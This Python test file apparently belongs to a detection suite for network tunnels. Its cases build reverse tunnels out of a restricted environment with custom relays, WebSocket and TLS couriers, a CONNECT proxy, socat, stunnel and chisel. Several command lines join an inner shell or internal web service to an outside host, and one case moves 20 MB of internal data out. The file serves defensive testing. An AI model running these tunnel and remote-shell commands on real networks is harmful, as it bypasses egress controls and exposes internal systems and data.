# SPDX-License-Identifier: Apache-2.0
"""Tunnels by programs that no list knows: written for the test, or general tools under another name."""

import os
import subprocess

import lib_far as far
import lib_net as net
import lib_tunnel as tunnel
from lib_case import TOP, Skipped, case


def reverse(c, command, came):
    c.call("ls")
    c.attack(command + " & " + c.until_done())
    c.call("true")
    c.begin()
    return came()


@case("tunnel", seconds=7, quick=True)
def relay_python(c):
    """a reverse tunnel of thirty lines of asyncio"""
    c.tool("relay.py", "worker.py")
    tunnel.browse(c, reverse(c, "python3 worker.py %s 443 %s 80" % (c.far, far.INNER), tunnel.wait(c, 443)))


@case("tunnel", seconds=7)
def relay_node(c):
    """the same for node"""
    c.tool("relay.mjs", "worker.mjs")
    tunnel.browse(c, reverse(c, "node worker.mjs %s 8443 %s 80" % (c.far, far.INNER), tunnel.wait(c, 8443)))


@case("tunnel", seconds=8)
def relay_python_bulk(c):
    """the same, one copy of 20 MB and nothing else"""
    c.tool("relay.py", "worker.py")
    browser = reverse(c, "python3 worker.py %s 9001 %s 80" % (c.far, far.INNER), tunnel.wait(c, 9001))
    c.mark()
    c.prove(len(browser.get("/bytes/20000000")) == 20000000, "20 MB of the internal network reached the far end")


@case("tunnel", seconds=7, quick=True)
def websocket(c):
    """a tunnel in WebSocket frames through an allowed host"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 80, ws=True)))


@case("tunnel", seconds=7)
def websocket_tls(c):
    """the same inside of TLS"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 443, ws=True, tls=True)))


@case("tunnel", seconds=7)
def connect_proxy(c):
    """a tunnel by CONNECT through an allowed proxy"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 443, tls=True, proxy=[c.far, 3128])))


@case("tunnel", seconds=8, quick=True)
def two_calls(c):
    """a relay of two processes in two calls, joined by a unix socket: both are to blame"""
    command, came = tunnel.courier(c, 443, inner="/work/joint")
    c.tool("socat")
    c.attack("./worker UNIX-LISTEN:/work/joint,fork TCP:%s:80 >/dev/null 2>&1 & sleep 0.5" % far.INNER)
    c.attack(command + " & " + c.until_done())
    c.begin()
    tunnel.browse(c, came())


@case("tunnel", seconds=6, quick=True)
def socat_reverse(c):
    """socat: an inner service joined to a connection that goes out"""
    port = 2300 + c.number
    far.shell_server(c, port)
    listener = net.listen("far", c.far, 443)
    c.ends.callback(listener.close)
    c.tool("socat")
    c.attack("./worker TCP:%s:443 TCP:%s:%d & " % (c.far, far.INNER_SHELL, port) + c.until_done())
    c.begin()
    listener.settimeout(15)
    with listener.accept()[0] as s:
        c.mark()
        seen = far.type_commands(s, ["id", "hostname"], slow=False) + far.type_commands(s, ["ls /", "uptime"])
    c.prove(b"uid=" in seen, "the far end ran commands on an inner machine")


def local(c, start, port=9000):
    """A listener inside that leads out, used by the next call."""
    asked = []

    def handle(s):
        asked.append(net.read_until(s, b"\r\n\r\n"))
        s.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 200000\r\n\r\n" + b"x" * 200000)

    c.attack(start)
    c.partner("for i in 1 2 3 4 5; do curl -s http://127.0.0.1:%d/ | wc -c; sleep 0.4; done" % port)
    return asked, handle


def fetched(c, asked):
    c.begin()
    c.wait_for(lambda: asked, 15, "a request through the tunnel")
    c.mark()
    c.wait_for(lambda: len(asked) >= 5, 20, "five requests through the tunnel")
    c.prove(True, "the far server was asked %d times" % len(asked))


@case("tunnel", seconds=6)
def socat_forward(c):
    """socat: a listener inside joined to the far end, used by another call"""
    c.tool("socat")
    asked, handle = local(c, "./worker TCP-LISTEN:9000,fork,reuseaddr TCP:%s:8080 >/dev/null 2>&1 & sleep 0.5" % c.far)
    far.serve(c, 8080, handle)
    fetched(c, asked)


@case("tunnel", seconds=7)
def stunnel(c):
    """stunnel: a listener inside, TLS to the far end"""
    c.tool("stunnel")
    c.file("worker.conf", "foreground = no\npid = /work/pid\noutput = /work/log\n[x]\nclient = yes\naccept = 127.0.0.1:9000\nconnect = %s:443\n" % c.far)
    asked, handle = local(c, "./worker worker.conf; sleep 0.7")
    far.serve(c, 443, handle, net.tls())
    fetched(c, asked)


@case("tunnel", seconds=100)
def chisel(c):
    """chisel, built from its module: a reverse tunnel over WebSocket and SSH"""
    built = TOP + "/build/detect/chisel"
    if not os.path.exists(built):
        ran = subprocess.run(["go", "install", "github.com/jpillora/chisel@v1.9.1"], stderr=subprocess.PIPE, text=True, timeout=300,
                             env={**os.environ, "GOBIN": os.path.dirname(built), "GOFLAGS": "-mod=mod"}) if go() else None
        if not ran or ran.returncode:
            raise Skipped("chisel is not to be had: " + (ran.stderr[-200:].strip() if ran else "no go"))
    far.start(c, [built, "server", "--reverse", "--host", c.far, "--port", "80"])
    net.connect("far", c.far, 80).close()
    c.tool(built)
    attack = "./worker client http://%s:80 R:%s:8000:%s:80 >/dev/null 2>&1" % (c.far, c.far, far.INNER)
    c.attack(attack + " & " + c.until_done())
    c.begin()
    net.connect("far", c.far, 8000).close()
    for _ in range(6):
        with net.connect("far", c.far, 8000) as s:
            c.mark()
            c.prove(b"inside 10.20.0.11" in net.http_get(s), "the far end read a page of the internal network")


def go():
    return subprocess.run(["sh", "-c", "command -v go"], stdout=subprocess.DEVNULL).returncode == 0
